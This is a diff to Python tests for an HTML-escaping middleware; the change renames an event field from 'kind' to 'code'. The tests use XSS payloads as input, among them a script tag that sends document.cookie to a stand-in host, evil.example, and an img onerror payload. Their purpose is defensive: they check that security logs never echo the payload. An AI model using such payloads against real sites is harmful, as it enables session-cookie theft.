@@ -572,7 +572,7 @@ def test_event_names_the_parameter_never_the_payload(store):
     payload = "<script>document.location='https://evil.example/?c='+document.cookie</script>"
     app = Escaping(contexts_app, store=store)
     TestApp(validated(app)).get("/text", params={"v": payload})
-    found = [e for e in store.events() if e["kind"] == REFLECTED_INPUT_ESCAPED]
+    found = [e for e in store.events() if e["code"] == REFLECTED_INPUT_ESCAPED]
     assert len(found) == 1
     event = found[0]
     assert event["detail"]["parameter"] == "v"
@@ -586,7 +586,7 @@ def test_event_names_the_parameter_never_the_payload(store):
 def test_event_does_not_repeat_a_hostile_parameter_name(store):
     app = echo_app(lambda env, body: b"<img src=x onerror=alert(1)>")
     TestApp(validated(Escaping(app, store=store))).get("/", params={"<img src=x onerror=alert(1)>": "1"})
-    (event,) = [e for e in store.events() if e["kind"] == REFLECTED_INPUT_ESCAPED]
+    (event,) = [e for e in store.events() if e["code"] == REFLECTED_INPUT_ESCAPED]
     assert "onerror" not in json.dumps(event)
     assert event["detail"]["parameter"] == "<unusual name, 28 chars>"
 
